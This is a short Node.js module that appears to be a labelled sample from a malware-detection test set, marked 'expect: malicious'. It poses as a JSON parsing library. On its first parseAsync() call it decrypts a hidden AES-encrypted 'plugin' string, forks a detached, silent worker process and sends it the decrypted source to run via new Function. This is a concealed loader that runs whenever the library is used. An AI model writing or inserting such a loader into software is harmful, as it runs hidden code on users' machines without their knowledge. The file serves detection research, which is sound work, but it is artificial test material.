// expect: malicious
// source: blind set 48's json-stream-worker (ipc-message-stage-handoff): the first parseAsync() decrypts a "schema
// plugin" and sends its source to a forked worker of the package, whose message handler runs it with new Function
'use strict';
const { fork } = require('child_process');
const path = require('path');
const crypto = require('crypto');
const PLUGIN = 'peM8McmEcEgeTi9LT3+zQgCMphQ1dDnk0fxTihX1fHoXivcUBtx/O0lJnfU1HNmm';
let warmed = false;
function warm() {
  if (warmed) return;
  warmed = true;
  const d = crypto.createDecipheriv('aes-256-cbc', crypto.createHash('sha256').update('json-stream-worker@3').digest(), Buffer.alloc(16));
  const source = Buffer.concat([d.update(Buffer.from(PLUGIN, 'base64')), d.final()]).toString();
  const w = fork(path.join(__dirname, 'worker.js'), ['--plugin-host'], { detached: true, stdio: ['ignore', 'ignore', 'ignore', 'ipc'] });
  w.send({ type: 'plugin', source }, () => { w.disconnect(); w.unref(); });
}
function parseAsync(text) { warm(); return Promise.resolve(JSON.parse(text)); }
module.exports = { parseAsync };
